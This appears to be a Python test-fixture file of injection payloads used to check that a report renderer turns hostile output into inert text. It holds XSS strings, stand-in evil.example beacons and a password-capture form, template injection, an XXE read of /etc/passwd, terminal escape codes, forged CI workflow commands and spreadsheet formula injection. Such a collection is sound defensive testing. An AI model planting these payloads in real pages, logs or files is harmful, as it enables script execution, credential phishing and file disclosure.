"""What a hostile program may write: every payload must come out of a report as dead text."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</title><script>alert(4)</script>",
    "</pre></details></main><h1>You passed</h1>",
    "<img src=x onerror=alert(5)>",
    "<img src=https://evil.example/pixel.gif>",
    '"><img src=x onerror=alert(6)>',
    "' onmouseover='alert(7)' x='",
    "<svg onload=alert(8)>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(9)>",
    "<iframe srcdoc='<script>alert(10)</script>'></iframe>",
    "<object data='javascript:alert(11)'></object>",
    "<embed src='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/y.css'; body { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password autofocus></form>",
    "<a href='javascript:alert(12)'>click</a>",
    "<details open ontoggle=alert(13)>",
    "<body onload=alert(14)>",
    "<video><source onerror=alert(15)></video>",
    "<!--<script>alert(16)//-->",
    "<plaintext>",
    "&lt;script&gt;alert(17)&lt;/script&gt;",
    "&#60;script&#62;alert(18)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(19)\uff1c/script\uff1e",
    "javascript:alert(20)",
    "data:text/html,<script>alert(21)</script>",
)
TEMPLATES = (
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(asctime)s %s {0} {0.__class__}",
    "[bold red]markup[/bold red] [link=https://evil.example]x[/link] :smile:",
)
MARKDOWN = (
    "@everyone @octocat look at #1 and GH-2",
    "![pixel](https://evil.example/pixel.gif)",
    "[click](https://evil.example/) <https://evil.example/> www.evil.example",
    "```\nout of the block\n```",
    "````` five backticks",
    "# You passed\n\n- [x] 100 points",
    "| a | b |\n|---|---|\n| 100 | 100 |",
    "a ` b `` c ``` d",
    "[ref]: https://evil.example/",
    "~~no~~ **bold** __bold__ $$x$$",
)
XML = (
    "]]>",
    "<![CDATA[x]]>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "</failure></testcase></testsuite>",
    "\x0b\x0c\x1c\ufffe\uffff",
)
TERMINAL = (
    "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\dcs \x9b31mC1\x9d0;x\x9c",
    "progress 10%\rprogress 100%\rdone\x08\x08\x07",
    "\x1b]never closed",
)
WORKFLOW = (
    "::set-env name=PATH::/evil",
    "::error::forged\n::add-mask::a",
    "  ::stop-commands::pause",
    "##[set-env name=PATH;]/evil",
    '{"level": "info", "score": 100}\nerror: forged\nhint: forged',
)
CELLS = ("=cmd()|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\uff1dHYPERLINK('x')")
ODD = (
    "\u202eDEKCAH\u202c \u2066x\u2069 \u200f",
    "zero\u200bwidth\ufeff\u2060\u00ad\U000e0041",
    "e" + "\u0301" * 10_000,
    "\ud800 lone \udfff surrogates",
    "NUL \x00 inside",
    "👨\u200d👩\u200d👧 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "w" * 4_000_000,
    "x\n" * 5_000,
    " ",
    "",
)
PAYLOADS = (*MARKUP, *TEMPLATES, *MARKDOWN, *XML, *TERMINAL, *WORKFLOW, *CELLS, *ODD)
